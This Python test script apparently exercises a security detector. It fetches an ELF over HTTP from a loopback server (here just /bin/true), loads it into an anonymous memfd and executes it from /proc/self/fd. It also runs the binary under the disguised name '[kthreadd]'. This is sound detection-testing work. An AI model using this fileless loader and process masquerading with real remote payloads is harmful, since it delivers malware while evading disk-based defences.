# technique: T1620 T1027.011 T1105
"""Fileless execution of a downloaded ELF from a memfd (T1620, T1027.011, T1105).

Linux loaders written in Python (e.g. the "fileless" helpers of several
botnets, and `ddexec`-style tooling) fetch an ELF over the network, put it in
an anonymous file from os.memfd_create, and execute it through
/proc/self/fd/<n> (or os.execve on the fd number) so no file ever touches the
disk. The ELF here is /bin/true served by a loopback HTTP server.

A good detector raises a high alert: a program is executed from a memfd /
/proc/self/fd path (an image with no file on disk), especially after a download.
"""
import http.server, os, subprocess, threading, urllib.request

BIN = open("/bin/true", "rb").read()
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers(); self.wfile.write(BIN)
    def log_message(self, *a): pass
srv = http.server.HTTPServer(("127.0.0.1", 0), H)
threading.Thread(target=srv.serve_forever, daemon=True).start()
try:
    elf = urllib.request.urlopen(f"http://127.0.0.1:{srv.server_address[1]}/bot", timeout=3).read()
    fd = os.memfd_create("", 0)
    os.write(fd, elf)
    subprocess.run([f"/proc/self/fd/{fd}"], pass_fds=(fd,), timeout=5)
    pid = os.fork()
    if pid == 0:
        try:
            os.execve(fd, ["[kthreadd]"], {})
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    os.close(fd)
except Exception:
    pass
finally:
    srv.shutdown()
